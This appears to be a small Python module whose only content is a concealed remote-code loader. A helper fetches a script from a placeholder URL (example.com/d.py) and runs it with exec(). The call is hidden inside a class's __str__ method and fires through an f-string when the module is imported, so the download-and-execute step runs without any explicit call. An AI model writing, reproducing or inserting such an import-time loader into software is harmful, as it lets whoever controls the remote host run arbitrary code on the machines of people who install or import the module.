import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


class A:
    def __str__(self):
        _go()
        return ""


TEXT = f"{A()}"
